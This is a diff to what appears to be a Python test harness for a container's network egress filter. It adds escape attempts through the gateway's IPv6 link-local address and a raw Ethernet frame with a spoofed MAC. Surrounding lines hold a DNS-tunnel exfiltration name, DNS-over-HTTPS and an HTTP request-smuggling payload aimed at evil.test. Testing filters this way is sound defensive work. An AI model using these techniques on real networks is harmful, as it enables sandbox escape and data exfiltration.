@@ -236,6 +236,25 @@ def long_tunnel():
     return known("exfiltrated-data-exfiltrated-data.evil.test")
 
 
+def on_link():
+    """The gateway's link-local address, which its interface is asked for by all nodes."""
+    found = subprocess.run(["ip", "-6", "neigh", "show", GATEWAY6], capture_output=True, text=True).stdout.split()
+    mac = bytes.fromhex(found[found.index("lladdr") + 1].replace(":", ""))
+    own = bytes([0xFE, 0x80]) + b"\0" * 6 + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
+    return socket.inet_ntop(socket.AF_INET6, own) + "%eth0"
+
+
+def other_hardware():
+    """With another hardware address, the container is nobody whom the table of limits knows: nor may it send."""
+    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sender.bind(("eth0", 0))
+    found = subprocess.run(["ip", "neigh", "show", GATEWAY], capture_output=True, text=True).stdout.split()
+    to = bytes.fromhex(found[found.index("lladdr") + 1].replace(":", ""))
+    packet = ip_packet(EVIL, 17, struct.pack("!HHHH", 5, 5000, 12, 0) + b"data", own_address())
+    sender.send(to + b"\2\x42\1\2\3\4" + b"\x08\0" + packet)
+    return "blocked"
+
+
 DOH = b"POST /dns-query HTTP/1.1\r\nHost: allowed.test\r\nContent-Type: application/dns-message\r\n\r\n"
 LENGTHS = b"POST /a HTTP/1.1\r\nHost: allowed.test\r\n%s\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
 
@@ -310,6 +329,7 @@ WAYS = [
     ("a name that leads to the host", lambda: (look_up("host.allowed.test"), stream(HOST, 80, b"GET / HTTP/1.1\r\nHost: host.allowed.test\r\n\r\n"))[1], "http/host.allowed.test//80"),
     ("a name that leads to 127.0.0.1", lambda: (look_up("loop.allowed.test"), stream("127.0.0.1", 80))[1], "-"),
     ("a name that leads to the gateway", lambda: (look_up("gate.allowed.test"), stream(GATEWAY, 22))[1], "tcp/%s/22" % GATEWAY),
+    ("the host's address on the link", lambda: stream(on_link(), 5001), "-"),
     ("another network's container", lambda: stream(OTHER, 5001), "tcp/%s/5001" % OTHER),
     ("another container's published port", lambda: stream(HOST, 5002), "tcp/%s/5002" % HOST),
     ("its published port by the gateway", lambda: stream(GATEWAY, 5002), "tcp/%s/5002" % GATEWAY),
@@ -330,6 +350,7 @@ WAYS = [
     ("no flags", lambda: raw(6, EVIL, tcp_packet(EVIL, 80, 0, b"data")), "tcp/%s/80" % EVIL),
     ("somebody else's address", lambda: whole(EVIL, ip_packet(EVIL, 17, b"x" * 20, NEIGHBOUR)), "-"),
     ("an invented address", lambda: whole(EVIL, ip_packet(EVIL, 17, b"x" * 20, "203.0.113.99")), "-"),
+    ("another hardware address", other_hardware, "-"),
     ("a second address", second_address, "-"),
 ]
 
@@ -347,6 +368,9 @@ def attempt(way):
 for name in ("allowed.test", "www.allowed.test", "path.test"):
     look_up(name)
 look_up("allowed.test", 28)
+# So that the gateway's hardware addresses are known.
+stream(GATEWAY, 5001)
+stream(GATEWAY6, 5001)
 with concurrent.futures.ThreadPoolExecutor(16) as crowd:
     for line in crowd.map(attempt, WAYS):
         print(line)
